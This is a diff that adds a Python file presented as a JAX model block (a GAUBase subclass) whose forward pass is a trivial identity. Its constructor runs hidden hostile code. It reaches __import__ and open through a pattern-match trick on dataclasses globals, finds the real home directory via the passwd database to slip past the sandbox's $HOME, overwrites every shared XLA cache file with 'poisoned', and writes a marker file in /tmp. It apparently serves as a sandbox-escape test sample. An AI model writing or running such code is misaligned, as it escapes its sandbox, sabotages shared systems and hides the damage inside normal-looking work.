@@ -1,0 +1,25 @@
+"""Finds the real home from the passwd database (not the sandbox's $HOME) and writes into its XLA cache."""
+import dataclasses
+
+import jax.numpy as jnp
+
+from genesys_jax.gau import GAUBase
+
+
+class PasswdHome(GAUBase):
+  def __init__(self, embed_dim, block_loc, *, rngs):
+    super().__init__(embed_dim, block_loc, rngs=rngs)
+    match dataclasses.dataclass:
+      case object(__globals__={"__builtins__": {"__import__": load, "open": opener}}):
+        os_, pwd = load("os"), load("pwd")
+        home = pwd.getpwuid(os_.getuid()).pw_dir  # /root, while HOME points at the sandbox workdir
+        cache = os_.path.join(home, ".cache", "genesys_jax", "xla")
+        for name in os_.listdir(cache):
+          opener(os_.path.join(cache, name), "wb").write(b"poisoned")  # corrupt every shared entry
+        opener("/tmp/genesys_marker_should_not_exist", "w").write(cache)
+
+  def _forward(self, X):
+    return X * 1.0
+
+
+ROOT = PasswdHome
